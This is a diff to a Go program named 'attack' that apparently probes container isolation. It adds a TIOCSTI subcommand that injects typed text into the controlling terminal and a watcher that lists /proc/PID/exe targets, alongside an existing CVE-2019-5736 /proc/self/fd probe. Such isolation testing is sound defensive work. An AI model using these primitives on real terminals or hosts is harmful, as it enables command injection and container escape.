@@ -10,6 +10,10 @@
 //	                         through /proc/self/fd (the CVE-2019-5736 trick)
 //	attack kill PID...       signal 0 to each PID
 //	attack ptrace PID...     PTRACE_ATTACH to each PID
+//	attack watchexe SECONDS  read /proc/PID/exe of every process for that
+//	                         long; print each target seen once
+//	attack tiocsti TEXT      push TEXT and a newline into the terminal on
+//	                         fd 0, 1 and 2 with ioctl(TIOCSTI), as if typed
 package main
 
 import (
@@ -17,6 +21,7 @@ import (
 	"os"
 	"runtime"
 	"strconv"
+	"time"
 
 	"golang.org/x/sys/unix"
 )
@@ -65,6 +70,13 @@ func main() {
 				unix.PtraceDetach(pid)
 			}
 			report("ptrace "+p, err)
+		}
+	case "watchexe":
+		secs, _ := strconv.Atoi(args[0])
+		watchExe(time.Duration(secs) * time.Second)
+	case "tiocsti":
+		for fd := 0; fd <= 2; fd++ {
+			report("tiocsti "+strconv.Itoa(fd), tiocsti(fd, args[0]+"\n"))
 		}
 	default:
 		fmt.Fprintln(os.Stderr, "attack: unknown command", os.Args[1])
@@ -116,3 +128,34 @@ func syscalls() {
 }
 
 func ptr(b []byte) uintptr { return uintptr(unsafePointer(b)) }
+
+// tiocsti pushes text one byte at a time: the first refusal ends it.
+func tiocsti(fd int, text string) error {
+	for i := 0; i < len(text); i++ {
+		b := []byte{text[i]}
+		_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, ptr(b))
+		runtime.KeepAlive(b)
+		if e != 0 {
+			return e
+		}
+	}
+	return nil
+}
+
+// watchExe prints every distinct /proc/PID/exe target it sees until d
+// has passed: what the container can learn of processes joining it.
+func watchExe(d time.Duration) {
+	seen := map[string]bool{}
+	for end := time.Now().Add(d); time.Now().Before(end); {
+		ents, _ := os.ReadDir("/proc")
+		for _, e := range ents {
+			if e.Name()[0] < '0' || e.Name()[0] > '9' {
+				continue
+			}
+			if l, err := os.Readlink("/proc/" + e.Name() + "/exe"); err == nil && !seen[l] {
+				seen[l] = true
+				fmt.Println("exe", l)
+			}
+		}
+	}
+}
